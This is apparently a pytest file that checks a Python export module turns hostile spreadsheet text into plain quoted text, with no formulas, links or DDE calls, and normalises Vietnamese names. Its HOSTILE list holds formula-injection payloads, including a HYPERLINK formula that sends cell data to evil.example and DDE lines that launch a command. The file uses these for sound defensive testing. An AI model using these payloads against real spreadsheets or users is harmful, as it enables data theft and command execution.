"""Safe exports: hostile district text never becomes a formula or a link."""

from __future__ import annotations

import csv
import datetime as dt
import unicodedata
import zipfile

import openpyxl
import pytest

from coop.outputs.exports import SafeWorkbook, csv_safe, is_formula_like, sheet_name, write_csv

HOSTILE = [
    "=1+2",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")",
    "+84912345678",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=cmd|' /C calc'!A0",
    "\r=1+1",
    "http://evil.example/phishing",
    "mailto:a@b.example",
    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
]
NFD_NAME = unicodedata.normalize("NFD", "Hợp tác xã Thủy sản Hòa Bình")


def test_formula_like_detection():
    assert all(is_formula_like(s) for s in HOSTILE[:7])
    assert not is_formula_like("Lạc Sơn")
    assert not is_formula_like("")
    assert not is_formula_like("1-2")


def test_csv_safe_prefixes_and_nfc(tmp_path):
    path = write_csv(tmp_path / "x.csv", ["cột", "=tiêu đề"], [[s, NFD_NAME] for s in HOSTILE] + [[-5, 3.5]])
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["cột", "'=tiêu đề"]
    for (value, name), original in zip(rows[1:-1], HOSTILE):
        if is_formula_like(original):
            assert value == "'" + original
        else:
            assert value == original
        assert name == unicodedata.normalize("NFC", NFD_NAME) and name != NFD_NAME
    # real numbers stay numbers (a negative profit is not text from a district)
    assert rows[-1] == ["-5", "3.5"]
    assert csv_safe(None) == "" and csv_safe(dt.date(2020, 1, 2)) == "2020-01-02"


def test_xlsx_hostile_strings_stay_text(tmp_path):
    path = tmp_path / "x.xlsx"
    with SafeWorkbook(path) as wb:
        ws = wb.add_worksheet("=bad[name]:*?")
        for r, s in enumerate(HOSTILE):
            wb.write(ws, r, 0, s, {"bg_color": "#FFFF00"})
            wb.write(ws, r, 1, NFD_NAME)
        wb.write(ws, len(HOSTILE), 0, -12.5)
        wb.write(ws, len(HOSTILE), 1, dt.date(2020, 12, 31))
    # no formula and no hyperlink anywhere in the package
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            body = z.read(name).decode("utf-8", "replace")
            assert "<f>" not in body and "<f " not in body, name
            assert "<hyperlink" not in body and "relationships/hyperlink" not in body, name
        assert not any("externalLink" in n for n in z.namelist())
        styles = z.read("xl/styles.xml").decode()
        assert 'quotePrefix="1"' in styles
    book = openpyxl.load_workbook(path)
    ws = book.worksheets[0]
    assert ws.title == "=bad-name----"
    for r, s in enumerate(HOSTILE, start=1):
        cell = ws.cell(r, 1)
        # openpyxl leaves Excel's _x000D_ escape of a CR undecoded; Excel decodes it
        assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r") == s
        assert cell.hyperlink is None
        assert cell.quotePrefix == is_formula_like(s)
        assert ws.cell(r, 2).value == unicodedata.normalize("NFC", NFD_NAME)
    assert ws.cell(len(HOSTILE) + 1, 1).value == -12.5
    assert ws.cell(len(HOSTILE) + 1, 2).value == dt.datetime(2020, 12, 31)


@pytest.mark.parametrize(
    "name,taken,expected",
    [("Lạc Sơn", [], "Lạc Sơn"), ("a" * 40, [], "a" * 31), ("HTX", ["htx"], "HTX (2)"), ("'x'", [], "x")],
)
def test_sheet_names(name, taken, expected):
    assert sheet_name(name, taken) == expected
